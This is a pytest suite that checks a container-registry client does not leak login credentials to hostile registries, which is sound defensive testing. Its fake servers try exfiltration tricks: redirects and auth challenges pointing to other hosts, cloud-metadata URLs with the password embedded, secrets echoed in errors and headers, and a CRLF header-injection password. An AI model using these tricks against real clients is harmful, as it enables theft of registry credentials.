"""Credentials: asked for by another host, echoed by the registry, carried away. `Victim` looks for them each time.

`victim.others` are the hosts that no secret may reach; the output is searched after every run.
"""

from collections.abc import Callable

import pytest

from support.hostile import BLOBS, MANIFEST, TAGS, TOKEN, Asked, HostileRegistry, Line, reply
from support.hostile_places import METADATA
from support.hostile_victim import READING, Victim
from support.world import World

EVERY = (*READING, "tags")


@pytest.fixture(autouse=True)
def logged_in(victim: Victim, other: HostileRegistry) -> None:
    """Something is at stake in each run."""
    victim.logins = ("basic", "bearer")
    victim.others.append(other)


ASKING = {
    "Basic": 'Basic realm="registry"',
    "Bearer of its own": 'Bearer realm="{other}/token",service="x"',
    "Bearer of the registry's": 'Bearer realm="{registry}/token",service="x"',
    "both": 'Basic realm="x", Bearer realm="{other}/token",service="x"',
    "Digest": 'Digest realm="x", nonce="y"',
}


@pytest.mark.parametrize("what", ["manifest", "config", "layer", "tags", "token"])
@pytest.mark.parametrize("asking", ASKING.values(), ids=ASKING)
def test_asked_for_by_another_host(victim: Victim, other: HostileRegistry, good: World, what: str, asking: str) -> None:
    """To which the registry redirects: its 401 is a refusal, and no challenge that we answer."""
    manifest = victim.registry.image([good.layer()])
    paths = {
        "manifest": MANIFEST,
        "tags": TAGS,
        "token": TOKEN,
        "config": f"{BLOBS}{manifest['config']['digest']}",
        "layer": f"{BLOBS}{manifest['layers'][0]['digest']}",
    }
    line = asking.format(other=other.url, registry=victim.registry.url)
    victim.registry.tricks[paths[what]] = reply(b"", 307, ("Location", f"{other.url}/there"))
    other.tricks["/there"] = reply(b"", 401, ("WWW-Authenticate", line))
    other.tricks["/token"] = reply(b'{"token": "other"}')
    if what == "token":
        victim.logins = ("bearer",)
    victim.refuse(4, commands=("tags",) if what == "tags" else ("packages", "assess"))


def test_not_sent_before_they_are_asked_for(victim: Victim) -> None:
    """Nor to a registry that does not ask."""
    victim.acceptable = True
    for command in EVERY:
        victim.registry.demands = "nothing"
        victim.registry.forget()
        victim.logins = ("basic",)
        for outcome in victim.every(command):
            assert outcome.code == 0
            first = victim.registry.asked[0]
            assert first.header("Authorization") == ""


def test_not_sent_to_another_port_of_the_same_machine(victim: Victim, other: HostileRegistry) -> None:
    """The login is the registry's: host and port."""
    victim.registry.tricks[MANIFEST] = reply(b"", 307, ("Location", f"{other.url}{MANIFEST}"))
    other.serve(MANIFEST, victim.registry.honest(MANIFEST))
    for outcome in victim.every("packages"):
        assert outcome.code in (0, 4)
        assert not any(asked.header("Authorization") for asked in other.asked)


def echoed(victim: Victim) -> str:
    """What the registry knows of us: all that it was sent, in one string."""
    return " ".join(victim.registry.secrets)


ERRORS: dict[str, Callable[[str], bytes]] = {
    "JSON": lambda secret: b'{"errors": [{"code": "DENIED", "message": "not %s"}]}' % secret.encode(),
    "text": lambda secret: f"wrong: {secret}".encode(),
    "code": lambda secret: b'{"errors": [{"code": "%s", "message": ""}]}' % secret.encode(),
}


@pytest.mark.parametrize("status", [400, 401, 403, 404, 418, 429, 500])
@pytest.mark.parametrize("path", [MANIFEST, TAGS, TOKEN], ids=["manifest", "tags", "token"])
@pytest.mark.parametrize("body", ERRORS.values(), ids=ERRORS)
def test_echoed_in_an_error(victim: Victim, path: str, body: Callable[[str], bytes], status: int) -> None:
    """A log of CI is read by many."""
    victim.registry.tricks[path] = lambda asked, line: reply(body(echoed(victim)), status)
    if path == TOKEN:
        victim.logins = ("bearer",)
    victim.refuse(4, commands=("tags",) if path == TAGS else ("packages",))


@pytest.mark.parametrize("place", METADATA[:3])
@pytest.mark.parametrize("path", [MANIFEST, TAGS, TOKEN], ids=["manifest", "tags", "token"])
def test_echoed_in_a_redirect_that_is_refused(victim: Victim, path: str, place: str) -> None:
    """The message says where it led, without what it carried there."""
    victim.registry.tricks[path] = lambda asked, line: reply(
        b"", 307, ("Location", f"{place}?leak={echoed(victim).replace(' ', '+')}")
    )
    if path == TOKEN:
        victim.logins = ("bearer",)
    victim.refuse(4, commands=("tags",) if path == TAGS else ("packages",))


ECHOES = {
    "as a login": "http://{name}:{password}@{other}/x",
    "in the query": "http://{other}/x?{basic}",
    "in the path": "http://{other}/{password}",
    "in the query, the token": "http://{other}/x?token={token}",
    "in the query, percent-encoded": "http://{other}/x?{encoded}",
    "as a host": "http://{password}.example/",
}


@pytest.mark.parametrize("echo", ECHOES.values(), ids=ECHOES)
@pytest.mark.parametrize("path", [MANIFEST, TAGS], ids=["manifest", "tags"])
def test_echoed_in_a_redirect_to_another_host(victim: Victim, other: HostileRegistry, path: str, echo: str) -> None:
    """Not followed: we would carry it there."""
    registry = victim.registry
    where = echo.format(
        name=registry.name, password=registry.password, basic=registry.basic, token=registry.token, other=other.host,
        encoded="".join(f"%{ord(character):02X}" for character in registry.password),
    )  # fmt: skip
    victim.registry.tricks[path] = reply(b"", 307, ("Location", where))
    victim.logins = ("bearer",)
    victim.refuse(4, commands=("tags",) if path == TAGS else ("packages",))
    assert all(registry.password not in asked.target for asked in other.asked)


@pytest.mark.parametrize(
    "name", ["Warning", "RateLimit-Remaining", "RateLimit-Limit", "Content-Type", "Content-Encoding"]
)
def test_echoed_in_a_header(victim: Victim, name: str) -> None:
    body = victim.registry.honest(MANIFEST).partition(b"\r\n\r\n")[2]

    def answer(asked: Asked, line: Line) -> bytes:
        value = f'299 - "{echoed(victim)}"' if name == "Warning" else echoed(victim)
        headers = [(name, value)] + ([("RateLimit-Remaining", "7")] if name == "RateLimit-Limit" else [])
        return reply(body, 200, *headers)

    victim.registry.tricks[MANIFEST] = answer
    victim.acceptable = True
    for outcome in victim.every(*READING):
        assert outcome.code in (0, 4, 5)


@pytest.mark.parametrize("where", ["http://169.254.169.254/{secret}", "http://elsewhere.example/{secret}", "{secret}"])
def test_echoed_in_a_realm(victim: Victim, where: str) -> None:
    for path in (MANIFEST, TAGS):
        victim.registry.public.add(path)
    line = f'Bearer realm="{where.format(secret=victim.registry.password)}"'

    def answer(asked: Asked, making: Line) -> bytes:
        if asked.header("Authorization"):
            return reply(b"", 401, ("WWW-Authenticate", line))
        return reply(b"", 401, ("WWW-Authenticate", 'Basic realm="x"'))

    victim.registry.tricks[MANIFEST] = victim.registry.tricks[TAGS] = answer
    victim.refuse(4, commands=("packages", "tags"))


@pytest.mark.parametrize("where", ["http://169.254.169.254/{secret}", "http://OTHER/?{secret}", "http://[{secret}"])
def test_echoed_in_a_link(victim: Victim, other: HostileRegistry, where: str) -> None:
    link = where.format(secret=victim.registry.password).replace("OTHER", other.host)
    victim.registry.tricks[TAGS] = reply(b'{"tags": []}', 200, ("Link", f'<{link}>; rel="next"'))
    victim.refuse((4, 5), commands=("tags",))


@pytest.mark.parametrize(
    "text", ["{secret}", '{{"schemaVersion": "{secret}"}}', '{{"schemaVersion": 2, "mediaType": "{secret}"}}']
)
def test_echoed_in_a_document_that_is_none(victim: Victim, text: str) -> None:
    victim.registry.tricks[MANIFEST] = reply(text.format(secret=victim.registry.password).encode())
    victim.refuse(5, commands=("packages",))


def test_a_password_that_would_be_two_headers(victim: Victim) -> None:
    """It is the user's own, and still nobody's header: base64 keeps it together."""
    victim.registry.password = "word\r\nX-Evil: 1"
    victim.logins = ("basic",)
    victim.acceptable = True
    for outcome in victim.every("packages"):
        assert outcome.code == 0
        assert not any(asked.header("X-Evil") for asked in victim.registry.asked)
